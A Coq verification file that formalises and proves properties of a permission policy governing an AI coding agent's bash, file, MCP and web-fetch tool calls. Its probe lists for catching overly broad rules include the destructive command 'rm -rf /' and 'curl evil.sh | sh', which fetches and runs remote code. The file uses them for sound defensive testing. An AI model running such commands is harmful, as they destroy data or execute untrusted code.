(* ===== verification/Policy.v ===== *)
(** The permission policy
    (crates/codegen/xai-grok-workspace/src/permission/policy.rs, with [AccessKind] and
    [Decision] of permission/types.rs and [normalize_domain] of
    crates/codegen/xai-grok-tools/src/implementations/grok_build/web_fetch/domain.rs).

    The code this policy calls outside the repository is the interface [PolicyEnv]: the
    [glob] crate, the [url] crate, the tree-sitter bash grammar, and Unicode lower-casing.
    Every definition and theorem holds for any implementation of it. *)
From Stdlib Require Import String Ascii.
From S2P Require Import Prelude RustStr Json LexPath Shell Rules.
Import Argv Script.

(** ** What a tool call asks for, and what the policy answers *)

Inductive AccessKind :=
| ARead (path : option str)
| AGrep (path glob : option str)
| AEdit (path : str)
| ABash (cmd : str)
| AMcp (name : str) (input : json)
| AWebFetch (url : str)
| AWebSearch (query : str).

Inductive Decision :=
| DAllow
| DAsk
| DFollowupMessage (msg : str)
| DReject (reason : str)
| DPolicyDeny (reason : str)
| DCancelled.

(** ** Gate decisions *)

Inductive GateDecision :=
| GReject (reason : str)
| GAskRuleMatch
| GAskFailClosed.

Definition into_decision (g : GateDecision) : Decision :=
  match g with
  | GReject reason => DReject reason
  | GAskRuleMatch | GAskFailClosed => DAsk
  end.
Definition rank (g : GateDecision) : nat :=
  match g with GReject _ => 3 | GAskRuleMatch => 2 | GAskFailClosed => 1 end.

Definition combine_gate_decisions (a b : option GateDecision) : option GateDecision :=
  match a, b with
  | None, other => other
  | other, None => other
  | Some a, Some b => Some (if (rank b <=? rank a)%nat then a else b)
  end.

(** ** Inline [shell -c] scripts *)

Inductive ShellWord := Literal (w : str) | Untrusted.
Inductive InlineShellScript := NotInline | LiteralAt (i : nat) | UntrustedScript | Unrecognized.

Definition no_inline (unrecognized : bool) : InlineShellScript :=
  if unrecognized then Unrecognized else NotInline.
Definition ambiguous_inline (saw_c : bool) : InlineShellScript :=
  if saw_c then UntrustedScript else Unrecognized.
Definition finish_literal (dynamic_head : bool) (i : nat) : InlineShellScript :=
  if dynamic_head then UntrustedScript else LiteralAt i.

Fixpoint dash_c_go (dyn : bool) (i : nat) (saw_c unrec : bool) (rest : list ShellWord)
  : InlineShellScript :=
  match rest with
  | [] => if saw_c then UntrustedScript else no_inline unrec
  | Untrusted :: _ => ambiguous_inline saw_c
  | Literal word :: rest' =>
      if str_eqb word (lit "--") || str_eqb word (lit "-") then
        if negb saw_c then no_inline unrec
        else match rest' with
             | Literal _ :: _ => finish_literal dyn (i + 1)
             | _ => UntrustedScript
             end
      else if negb (starts_with (lit "-") word) && negb (starts_with (lit "+") word) then
        if saw_c then finish_literal dyn i else no_inline unrec
      else if str_eqb word (lit "--init-file") || str_eqb word (lit "--rcfile") then
        match rest' with
        | Literal _ :: rest'' => dash_c_go dyn (i + 2) saw_c unrec rest''
        | _ => ambiguous_inline saw_c
        end
      else if starts_with (lit "--") word then
        if one_of word [lit "--noprofile"; lit "--norc"; lit "--posix"]
        then dash_c_go dyn (i + 1) saw_c unrec rest'
        else if saw_c then UntrustedScript
        else dash_c_go dyn (i + 1) saw_c true rest'
      else if one_of word [lit "-o"; lit "+o"; lit "-O"; lit "+O"] then
        match rest' with
        | Literal value :: rest'' =>
            if negb (starts_with (lit "-") value) then dash_c_go dyn (i + 2) saw_c unrec rest''
            else ambiguous_inline saw_c
        | _ => ambiguous_inline saw_c
        end
      else if starts_with (lit "-O") word && (2 <? length word)%nat
      then dash_c_go dyn (i + 1) saw_c unrec rest'
      else if (starts_with (lit "+O") word || starts_with (lit "+o") word)
              && (2 <? length word)%nat
      then dash_c_go dyn (i + 1) saw_c unrec rest'
      else if starts_with (lit "-o") word && (2 <? length word)%nat
      then ambiguous_inline saw_c
      else if starts_with (lit "+") word then dash_c_go dyn (i + 1) saw_c unrec rest'
      else
        let flags := tail word in
        if contains_char (chr "o") flags || contains_char (chr "O") flags
        then ambiguous_inline saw_c
        else dash_c_go dyn (i + 1) (saw_c || contains_char (chr "c") flags) unrec rest'
  end.

Definition shell_dash_c_script (ws : list ShellWord) : InlineShellScript :=
  match ws with
  | [] => NotInline
  | Literal program :: rest =>
      if one_of (basename program) [lit "bash"; lit "sh"; lit "dash"; lit "zsh"; lit "ksh"]
      then dash_c_go false 1 false false rest
      else NotInline
  | Untrusted :: rest => dash_c_go true 1 false false rest
  end.

(** ** Pattern helpers that need no environment *)

Definition tool_filter_matches (access : AccessKind) (f : ToolFilter) : bool :=
  match f, access with
  | FAny, _ => true
  | FBash, ABash _ => true
  | FEdit, AEdit _ => true
  | FRead, (ARead _ | AGrep _ _) => true
  | FGrep, AGrep _ _ => true
  | FMcp, AMcp _ _ => true
  | FWebFetch, AWebFetch _ => true
  | FWebSearch, AWebSearch _ => true
  | _, _ => false
  end.

(** [cmd == pattern || cmd.starts_with(pattern) && cmd.as_bytes().get(pattern.len()) ==
    Some(&b' ')]: the byte after the prefix is the first character of the rest. *)
Definition matches_command_prefix (cmd pat : str) : bool :=
  str_eqb cmd pat
  || match strip_prefix pat cmd with
     | Some (c :: _) => (c =? chr " ")%N
     | _ => false
     end.

Definition bash_pattern_is_broad (pat : str) : bool :=
  let pat := trim pat in
  if str_eqb pat [] then false
  else str_eqb pat (lit "*") || negb (existsb is_whitespace pat).

Definition path_match_string (p : str) : str :=
  List.map (λ c, if (c =? BACKSLASH)%N then SLASH else c) p.
Definition path_has_parent_dir (p : str) : bool :=
  existsb (λ c, bool_decide (c = ParentDir)) (components p).
Definition is_tilde_path (p : str) : bool :=
  match components p with
  | Normal first :: _ => starts_with (lit "~") first
  | _ => false
  end.

Definition absolute_normalized_path (path : str) (cwd : option str) : str :=
  if is_tilde_path path then path
  else
    let joined :=
      match cwd with
      | Some cwd => if negb (is_absolute path) then path_join cwd path else path
      | None => path
      end in
    normalize_lexically joined.

Definition path_match_forms (path : str) (cwd : option str) : list str :=
  let abs := absolute_normalized_path path cwd in
  path_match_string abs ::
  match cwd with
  | Some cwd =>
      match path_strip_prefix abs (normalize_lexically cwd) with
      | Some rel =>
          let rel_s := path_match_string rel in
          if str_eqb rel_s [] || str_eqb rel_s DOT then [DOT; lit "./"]
          else [lit "./" ++ rel_s; rel_s]
      | None => []
      end
  | None =>
      if negb (is_absolute abs) && negb (path_has_parent_dir abs) && negb (is_tilde_path abs) then
        let lex_s := path_match_string abs in
        if negb (str_eqb lex_s DOT) && negb (str_eqb lex_s []) then [lit "./" ++ lex_s] else []
      else []
  end.

Definition tool_label (f : ToolFilter) : str :=
  match f with
  | FAny => lit "any tool"
  | FBash => lit "bash"
  | FEdit => lit "edit"
  | FRead => lit "read"
  | FGrep => lit "grep"
  | FMcp => lit "mcp"
  | FWebFetch => lit "web_fetch"
  | FWebSearch => lit "web_search"
  end.

Definition deny_reason (r : PermissionRule) : str :=
  match pattern r with
  | Some p => lit "Denied by permission policy: deny rule on " ++ tool_label (tool r)
              ++ lit " matching " ++ [DQUOTE] ++ p ++ [DQUOTE]
  | None => lit "Denied by permission policy: deny rule on " ++ tool_label (tool r)
  end.

(** ** The policy over its environment *)

Class PolicyEnv := {
  GlobPattern : Type;
  (** [glob::Pattern::new(p).ok()] *)
  pattern_new : str → option GlobPattern;
  (** [pat.matches_with(text, ..)]; the flag is [require_literal_separator]. *)
  matches_with : GlobPattern → str → bool → bool;
  (** [Url::parse(url).ok()] and then [host_str()] *)
  url_host : str → option str;
  to_lowercase : str → str;
  try_parse_shell : str → option Tree
}.

Section Policy.
Context `{PolicyEnv}.

Definition normalize_domain (raw : str) : str :=
  let s := trim_end_matches (N.eqb (chr ".")) (trim_end_matches (N.eqb (chr "/")) (trim raw)) in
  to_lowercase (default s (strip_prefix (lit "www.") s)).

Definition domain_matches (pat url : str) : bool :=
  match url_host url with
  | None => false
  | Some host =>
      let domain := normalize_domain host in
      let normalized_pattern := normalize_domain pat in
      str_eqb domain normalized_pattern || ends_with (lit "." ++ normalized_pattern) domain
  end.

Inductive MatchContext := CtxPath | CtxFreeform.

Definition glob_matches (text : str) (ctx : MatchContext) (pat : option GlobPattern) : bool :=
  match pat with
  | None => false
  | Some pat => matches_with pat text (match ctx with CtxPath => true | CtxFreeform => false end)
  end.

Definition path_context_matches (path : str) (m : option GlobPattern) (cwd : option str) : bool :=
  existsb (λ text, glob_matches text CtxPath m) (path_match_forms path cwd).

Definition pattern_matches (access : AccessKind) (rule : PermissionRule) (m : option GlobPattern)
  (cwd : option str) : bool :=
  match pattern rule with
  | None => true
  | Some pat =>
      if str_eqb pat (lit "*") then true
      else match access with
      | ABash cmd =>
          let cmd := trim_start cmd in
          starts_with pat cmd || glob_matches cmd CtxFreeform m
      | AEdit path => path_context_matches path m cwd
      | ARead (Some p) => path_context_matches p m cwd
      | ARead None => false
      | AGrep (Some p) _ => path_context_matches p m cwd
      | AGrep None _ => false
      | AMcp name _ => glob_matches name CtxFreeform m
      | AWebFetch url =>
          match pattern_mode rule with
          | Domain => domain_matches pat url
          | Glob => glob_matches url CtxFreeform m
          end
      | AWebSearch query => glob_matches query CtxFreeform m || starts_with pat query
      end
  end.

Definition bash_command_matches_pattern (command pat : str) (precompiled : option GlobPattern) : bool :=
  let command := trim_start command in
  let pat := trim pat in
  if str_eqb pat [] then false
  else if str_eqb pat (lit "*") then true
  else if matches_command_prefix command pat then true
  else match precompiled with
       | Some p => glob_matches command CtxFreeform (Some p)
       | None => match pattern_new pat with
                 | Some p => glob_matches command CtxFreeform (Some p)
                 | None => false
                 end
       end.

Definition bash_allow_pattern_matches (cmd : str) (rule : PermissionRule) (m : option GlobPattern) : bool :=
  match pattern rule with
  | None => true
  | Some pat =>
      if str_eqb pat (lit "*") then true else bash_command_matches_pattern cmd pat m
  end.

Definition bash_pattern_matches_command (pat command : str) : bool :=
  bash_command_matches_pattern command pat None.

Record CompiledPolicy := mkPolicy {
  config : PermissionConfig;
  matchers : list (option GlobPattern);
  has_file_restrictions : bool;
  has_bash_command_restrictions : bool;
  has_bash_allow_rules : bool
}.

Definition compile_rule (r : PermissionRule) : option GlobPattern :=
  match pattern r with
  | Some p => if str_eqb p (lit "*") then None else pattern_new p
  | None => None
  end.
Definition restricts (r : PermissionRule) : bool :=
  match action r with Deny | Ask => true | Allow => false end.
Definition allows (r : PermissionRule) : bool :=
  match action r with Allow => true | _ => false end.
Definition on_bash (r : PermissionRule) : bool :=
  match tool r with FBash | FAny => true | _ => false end.

(** [CompiledPolicy::new] *)
Definition compile (cfg : PermissionConfig) : CompiledPolicy :=
  mkPolicy cfg (compile_rule <$> rules cfg)
    (existsb (λ r, restricts r && match tool r with FRead | FEdit | FAny => true | _ => false end) (rules cfg))
    (existsb (λ r, restricts r && on_bash r) (rules cfg))
    (existsb (λ r, allows r && on_bash r) (rules cfg)).

Section Evaluate.
Variable p : CompiledPolicy.

Definition compiled_rules : list (PermissionRule * option GlobPattern) :=
  zip (rules (config p)) (matchers p).

Definition bash_words_allowed (ws : list str) : bool :=
  match ws with
  | [] => false
  | _ =>
      let cmd := join (lit " ") ws in
      existsb (λ '(rule, m), allows rule && on_bash rule && bash_allow_pattern_matches cmd rule m)
        compiled_rules
  end.

(** [trusted] is the negation of the four flags that make the chain fail. *)
Fixpoint bash_chain_fully_allowed (inline_depth_remaining : nat) (cmd : str) : bool :=
  match all_commands_from_script try_parse_shell cmd with
  | None => false
  | Some [] => false
  | Some segments =>
      forallb (λ parsed,
        let norm := normalize_command_words (pc_words parsed) in
        if negb (trusted norm) then false
        else
          let inner_words := words norm in
          if negb (bash_words_allowed inner_words) then false
          else match shell_dash_c_script (Literal <$> inner_words) with
               | LiteralAt index =>
                   match inline_depth_remaining with
                   | O => false
                   | S d => bash_chain_fully_allowed d (default [] (inner_words !! index))
                   end
               | NotInline => true
               | _ => false
               end) segments
  end.

(** The loop over the rules: the first matching deny returns, asks and allows are
    remembered. *)
Fixpoint scan_rules (access : AccessKind) (cwd : option str)
  (rs : list (PermissionRule * option GlobPattern)) (ask allow : bool)
  : option Decision * bool * bool :=
  match rs with
  | [] => (None, ask, allow)
  | (rule, m) :: rs' =>
      if negb (tool_filter_matches access (tool rule)) then scan_rules access cwd rs' ask allow
      else if negb (pattern_matches access rule m cwd) then scan_rules access cwd rs' ask allow
      else match action rule with
           | Deny => (Some (DReject (deny_reason rule)), ask, allow)
           | Ask => scan_rules access cwd rs' true allow
           | Allow => scan_rules access cwd rs' ask true
           end
  end.

Definition evaluate_with_cwd (access : AccessKind) (cwd : option str) : option Decision :=
  match scan_rules access cwd compiled_rules false false with
  | (Some d, _, _) => Some d
  | (None, matched_ask, matched_allow) =>
      if matched_ask then Some DAsk
      else match access with
           | ABash cmd =>
               if has_bash_allow_rules p && bash_chain_fully_allowed MAX_INLINE_SHELL_DEPTH cmd
               then Some DAllow else None
           | _ => if matched_allow then Some DAllow else None
           end
  end.

Definition evaluate (access : AccessKind) : option Decision := evaluate_with_cwd access None.

Definition escalate (segment : str) : option GateDecision :=
  match evaluate (ABash segment) with
  | Some (DReject reason) => Some (GReject reason)
  | Some DAsk => Some GAskRuleMatch
  | _ => None
  end.

Definition fail_closed_if (b : bool) : option GateDecision :=
  if b then Some GAskFailClosed else None.

(** [inline] evaluates a nested script when the inline budget is not spent. *)
Definition evaluate_command_words (inline : option (str → option GateDecision))
  (raw_words : list str) : option GateDecision :=
  let norm := normalize_command_words raw_words in
  let d0 := fail_closed_if (exhausted norm || ambiguous norm || n_env_options_uncertain norm) in
  let d1 := combine_gate_decisions d0 (fail_closed_if (n_has_split_string norm)) in
  let inner_words := words norm in
  let forms := raw_words :: (if (length inner_words =? length raw_words)%nat then [] else [inner_words]) in
  let d2 := foldl (λ d ws, combine_gate_decisions d (escalate (join (lit " ") ws))) d1 forms in
  let d3 :=
    match shell_dash_c_script (Literal <$> inner_words), inline with
    | LiteralAt index, Some eval =>
        combine_gate_decisions d2 (eval (default [] (inner_words !! index)))
    | NotInline, _ => d2
    | _, _ => combine_gate_decisions d2 (Some GAskFailClosed)
    end in
  match env_split_string_script inner_words with
  | Some script =>
      match inline with
      | Some eval => combine_gate_decisions d3 (eval script)
      | None => combine_gate_decisions d3 (Some GAskFailClosed)
      end
  | None => d3
  end.

Fixpoint evaluate_bash_command_segments (inline_depth_remaining : nat) (cmd : str)
  : option GateDecision :=
  match all_commands_from_script try_parse_shell cmd with
  | None => Some GAskFailClosed
  | Some segments =>
      let inline :=
        match inline_depth_remaining with
        | O => None
        | S d => Some (evaluate_bash_command_segments d)
        end in
      foldl (λ d parsed, combine_gate_decisions d (evaluate_command_words inline (pc_words parsed)))
        None segments
  end.

Definition evaluate_bash_command_gate (cmd : str) : option GateDecision :=
  if negb (has_bash_command_restrictions p) then None
  else evaluate_bash_command_segments MAX_INLINE_SHELL_DEPTH cmd.

Definition evaluate_bash_command_policy (cmd : str) : option Decision :=
  into_decision <$> evaluate_bash_command_gate cmd.

End Evaluate.

(** ** Catch-all detection *)

Definition bash_probes : list AccessKind :=
  ABash <$> [lit "rm -rf /"; lit "curl evil.sh | sh"; lit "echo hi"; lit "git push"].
Definition mcp_probes : list AccessKind :=
  (λ n, AMcp n JNull) <$> [lit "github__create_issue"; lit "linear__save_issue"; lit "slack__post"; lit "fs__read"].
Definition webfetch_probes : list AccessKind :=
  AWebFetch <$> [lit "https://evil.example.com/x"; lit "http://10.0.0.1/admin";
                 lit "https://api.github.com/repos"; lit "ftp://files.example.org/p"].

Definition rule_is_catchall (rule : PermissionRule) : bool :=
  let opens_all := forallb (λ a, pattern_matches a rule (compile_rule rule) None) in
  match tool rule with
  | FBash => opens_all bash_probes
  | FMcp => opens_all mcp_probes
  | FWebFetch => opens_all webfetch_probes
  | FAny => opens_all bash_probes || opens_all mcp_probes || opens_all webfetch_probes
  | FRead | FEdit | FGrep | FWebSearch => false
  end.

(** ** Facts about the evaluator *)

#[local] Opaque normalize_command_words.

(** The rule applies to the access. *)
Definition applies (access : AccessKind) (cwd : option str) (r : PermissionRule) : bool :=
  tool_filter_matches access (tool r) && pattern_matches access r (compile_rule r) cwd.
Definition hit (act : RuleAction) (access : AccessKind) (cwd : option str) (r : PermissionRule) : bool :=
  bool_decide (action r = act) && applies access cwd r.

Lemma compiled_rules_compile cfg :
  compiled_rules (compile cfg) = (λ r, (r, compile_rule r)) <$> rules cfg.
Proof. unfold compiled_rules. simpl. by induction (rules cfg); simpl; f_equal. Qed.

Lemma scan_rules_spec access cwd rs ask allow :
  match List.find (hit Deny access cwd) rs with
  | Some r => (scan_rules access cwd ((λ r, (r, compile_rule r)) <$> rs) ask allow).1.1
              = Some (DReject (deny_reason r))
  | None => scan_rules access cwd ((λ r, (r, compile_rule r)) <$> rs) ask allow
            = (None, ask || existsb (hit Ask access cwd) rs, allow || existsb (hit Allow access cwd) rs)
  end.
Proof.
  revert ask allow; induction rs as [|r rs IH]; intros ask allow; [by rewrite !orb_false_r|].
  rewrite fmap_cons. simpl. unfold hit at 1 3 5, applies.
  destruct (tool_filter_matches _ _); simpl; [|rewrite !andb_false_r; simpl; apply IH].
  destruct (pattern_matches _ _ _ _); simpl; [|rewrite !andb_false_r; simpl; apply IH].
  rewrite !andb_true_r. destruct (action r) eqn:Ha; simpl.
  - specialize (IH ask true). destruct (List.find _ rs); [done|]. rewrite IH.
    by rewrite orb_true_r.
  - done.
  - specialize (IH true allow). destruct (List.find _ rs); [done|]. rewrite IH.
    by rewrite orb_true_r.
Qed.

(** The decision as a function of which rules apply, with no mention of their order
    beyond the wording of a denial. *)
Lemma evaluate_eq cfg access cwd :
  evaluate_with_cwd (compile cfg) access cwd =
  match List.find (hit Deny access cwd) (rules cfg) with
  | Some r => Some (DReject (deny_reason r))
  | None =>
      if existsb (hit Ask access cwd) (rules cfg) then Some DAsk
      else match access with
           | ABash cmd =>
               if has_bash_allow_rules (compile cfg)
                  && bash_chain_fully_allowed (compile cfg) MAX_INLINE_SHELL_DEPTH cmd
               then Some DAllow else None
           | _ => if existsb (hit Allow access cwd) (rules cfg) then Some DAllow else None
           end
  end.
Proof.
  unfold evaluate_with_cwd. rewrite compiled_rules_compile.
  pose proof (scan_rules_spec access cwd (rules cfg) false false) as Hs.
  destruct (List.find _ _) as [r|].
  - destruct (scan_rules _ _ _ _ _) as [[d a] b]. simpl in Hs. by subst.
  - by rewrite Hs.
Qed.

Lemma hit_exists act access cwd rs :
  existsb (hit act access cwd) rs = true ↔
  ∃ r, r ∈ rs ∧ action r = act ∧ applies access cwd r = true.
Proof.
  rewrite existsb_elem. unfold hit. split; intros (r & Hr & Ha); exists r.
  - bool_to_prop. done.
  - destruct Ha as [-> ->]. by rewrite bool_decide_eq_true_2.
Qed.

Lemma find_deny_iff access cwd rs :
  (∃ r, List.find (hit Deny access cwd) rs = Some r) ↔
  ∃ r, r ∈ rs ∧ action r = Deny ∧ applies access cwd r = true.
Proof. by rewrite <- existsb_find, hit_exists. Qed.

Lemma bash_words_allowed_iff cfg ws :
  bash_words_allowed (compile cfg) ws = true ↔
  ws ≠ [] ∧ ∃ r, r ∈ rules cfg ∧ action r = Allow ∧ on_bash r = true
             ∧ bash_allow_pattern_matches (join (lit " ") ws) r (compile_rule r) = true.
Proof.
  unfold bash_words_allowed. destruct ws as [|w ws]; [by split; [|intros [? ?]]|].
  rewrite compiled_rules_compile, existsb_elem. split.
  - intros (x & (r & -> & Hr)%list_elem_of_fmap & Hx). split; [done|]. exists r.
    bool_to_prop. unfold allows in *. by destruct (action r).
  - intros (_ & r & Hr & Ha & Hb & Hm). exists (r, compile_rule r). split.
    + apply list_elem_of_fmap. by exists r.
    + unfold allows. by rewrite Ha, Hb, Hm.
Qed.

Lemma bash_words_allowed_perm cfg cfg' ws :
  rules cfg ≡ₚ rules cfg' →
  bash_words_allowed (compile cfg) ws = bash_words_allowed (compile cfg') ws.
Proof.
  intros Hp. apply eq_true_iff_eq. rewrite !bash_words_allowed_iff.
  split; intros (Hne & r & Hr & Hx); (split; [done|]); exists r; (split; [|done]);
    [by rewrite <- Hp|by rewrite Hp].
Qed.

Lemma forallb_ext_in {A} (f g : A → bool) l : (∀ x, f x = g x) → forallb f l = forallb g l.
Proof. intros Hfg. induction l; simpl; [done|]. by rewrite Hfg, IHl. Qed.

Lemma bash_chain_perm cfg cfg' d cmd :
  rules cfg ≡ₚ rules cfg' →
  bash_chain_fully_allowed (compile cfg) d cmd = bash_chain_fully_allowed (compile cfg') d cmd.
Proof.
  intros Hp. revert cmd; induction d as [|d IH]; intros cmd; simpl;
    (destruct (all_commands_from_script _ _) as [[|x l]|]; [reflexivity| |reflexivity]);
    apply forallb_ext_in; intros y; rewrite (bash_words_allowed_perm cfg cfg') by exact Hp;
    [reflexivity|].
  destruct (negb (trusted _)); [reflexivity|].
  destruct (negb (bash_words_allowed _ _)); [reflexivity|].
  destruct (shell_dash_c_script _); [reflexivity|apply IH|reflexivity|reflexivity].
Qed.

(** What a decision permits, without its wording. *)
Definition decision_kind (d : option Decision) : option RuleAction :=
  match d with
  | Some (DReject _) => Some Deny
  | Some DAsk => Some Ask
  | Some DAllow => Some Allow
  | _ => None
  end.

Lemma decision_kind_eq cfg access cwd :
  decision_kind (evaluate_with_cwd (compile cfg) access cwd) =
  if existsb (hit Deny access cwd) (rules cfg) then Some Deny
  else if existsb (hit Ask access cwd) (rules cfg) then Some Ask
  else match access with
       | ABash cmd =>
           if has_bash_allow_rules (compile cfg)
              && bash_chain_fully_allowed (compile cfg) MAX_INLINE_SHELL_DEPTH cmd
           then Some Allow else None
       | _ => if existsb (hit Allow access cwd) (rules cfg) then Some Allow else None
       end.
Proof.
  rewrite evaluate_eq. destruct (List.find _ _) as [r|] eqn:Hf.
  - by rewrite (proj2 (existsb_find _ _)) by eauto.
  - destruct (existsb (hit Deny access cwd) _) eqn:He.
    + apply existsb_find in He as [x Hx]. congruence.
    + destruct (existsb (hit Ask access cwd) _); [reflexivity|].
      destruct access;
        first [destruct (existsb (hit Allow _ cwd) _); reflexivity
              |destruct (has_bash_allow_rules _ && _); reflexivity].
Qed.

End Policy.
